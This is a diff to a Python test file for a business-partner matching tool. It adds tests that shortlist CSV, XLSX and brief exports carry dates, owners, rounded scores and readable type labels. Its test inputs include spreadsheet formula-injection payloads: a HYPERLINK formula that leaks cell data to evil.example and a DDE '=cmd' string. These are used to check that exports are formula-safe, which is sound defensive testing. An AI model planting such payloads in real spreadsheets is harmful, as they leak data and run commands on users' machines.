@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 from html.parser import HTMLParser
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -18,12 +20,15 @@ from matcher.export import (
     brief_html,
     entries_from_frame,
     neutralise,
+    readable,
     schedule_section,
     schedule_table,
     to_csv,
     to_xlsx,
 )
 from matcher.schedule import Schedule, plan_meetings
+from matcher.service.curation import Curation
+from matcher.store import ShortlistSuggestion
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -220,8 +225,8 @@ def test_brief_shows_every_field_of_an_entry() -> None:
     for shown in (
         "Costa Bio",
         "Málaga, ES",
-        "research institute",
-        "series a",
+        "Research institute",
+        "Series A",
         "shortlist: contacted",
         "score 0.81",
         "They offer GMP fill-finish",
@@ -323,3 +328,78 @@ def test_planner_brief_says_who_has_not_enough_good_matches() -> None:
     assert "Not enough good matches for Bora Bio, Ruhr Two: no pair scores at least 0.24, the possible band." in (
         section.intro
     )
+
+
+# ------------------------------------------------------------------------------------ shortlist exports in context
+
+SHORTLIST_PROFILES = (
+    "id,name,org_type,city,country,sectors,description,offers,seeks\n"
+    "dj-1,Hanbit Bioworks,startup,Daejeon,KR,ADC,Site-specific ADC linkers.,Linker chemistry,GMP fill-finish\n"
+    "ma-1,Biomédica Costa del Sol,company,Málaga,ES,CDMO,A CDMO.,Aseptic fill-finish,ADC projects\n"
+    "do-1,Ruhr Institute of Fill Technology,research_institute,Dortmund,DE,CDMO,Fill lines.,Fill-finish,ADC\n"
+)
+
+
+@pytest.fixture
+def curated(tmp_path: Path) -> tuple[Curation, int]:
+    """A workspace of three profiles and kim's shortlist for Hanbit: ma-1 from a suggestion, do-1 added by hand."""
+    from matcher.api import Matcher
+
+    (tmp_path / "p.csv").write_text(SHORTLIST_PROFILES, encoding="utf-8")
+    matcher = Matcher(tmp_path / "ws")
+    matcher.import_profiles(tmp_path / "p.csv")
+    curation = matcher.curation
+    list_id = curation.create_shortlist("ADC partners", owner="kim")
+    reasons = ("Their offer meets your need: aseptic fill-finish", "=cmd|' /C calc'!A0")
+    curation.set_shortlist_entry(list_id, "ma-1", suggestion=ShortlistSuggestion("dj-1", 0.612345, reasons))
+    curation.set_shortlist_entry(list_id, "do-1", note="met at BIO")
+    return curation, list_id
+
+
+def test_a_shortlist_csv_says_whose_list_it_is_for_whom_and_the_local_date(curated: tuple[Curation, int]) -> None:
+    curation, list_id = curated
+    table = pd.read_csv(io.BytesIO(curation.shortlist_csv(list_id, prepared_by="lee")), encoding="utf-8-sig",
+                        keep_default_na=False)
+    assert table[["shortlist", "owner", "prepared by"]].drop_duplicates().values.tolist() == [
+        ["ADC partners", "kim", "lee"]
+    ]
+    assert set(table["prepared on"]) == {dt.date.today().isoformat()}
+    assert dict(zip(table["id"], table["suggested for"], strict=True)) == {"ma-1": "Hanbit Bioworks", "do-1": ""}
+
+
+def test_a_shortlisted_suggestion_keeps_its_score_rounded_and_its_reasons_formula_safe(
+    curated: tuple[Curation, int],
+) -> None:
+    curation, list_id = curated
+    [header, *rows] = read_csv_cells(curation.shortlist_csv(list_id))
+    by_id = {row["id"]: row for row in (dict(zip(header, cells, strict=True)) for cells in rows)}
+    assert by_id["ma-1"]["score"] == "0.61"
+    assert by_id["ma-1"]["reasons"] == "Their offer meets your need: aseptic fill-finish; =cmd|' /C calc'!A0"
+    assert by_id["do-1"]["score"] == ""  # added by hand: no score is made up
+
+
+def test_shortlist_exports_show_types_in_words(curated: tuple[Curation, int]) -> None:
+    curation, list_id = curated
+    sheet = load_workbook(io.BytesIO(curation.shortlist_xlsx(list_id))).active
+    header = [cell.value for cell in sheet[1]]
+    rows = sheet.iter_rows(min_row=2, values_only=True)
+    types = {row[header.index("id")]: row[header.index("type")] for row in rows}
+    assert types == {"ma-1": "Company", "do-1": "Research institute"}
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_the_shortlist_brief_has_the_date_the_owner_whom_it_is_for_scores_and_reasons(
+    curated: tuple[Curation, int],
+) -> None:
+    curation, list_id = curated
+    text = " ".join(parse(curation.shortlist_brief(list_id, prepared_by="lee")).text)
+    assert f"prepared on {dt.date.today().isoformat()} by lee" in text
+    assert "suggested for Hanbit Bioworks" in text and "list kept by kim" in text
+    assert "score 0.61" in text and "Their offer meets your need: aseptic fill-finish" in text
+    assert "Research institute" in text and "research_institute" not in text
+
+
+def test_readable_labels_spell_codes_as_words() -> None:
+    assert [readable(code) for code in ("research_institute", "sme", "series_a", "")] == [
+        "Research institute", "SME", "Series A", ""
+    ]
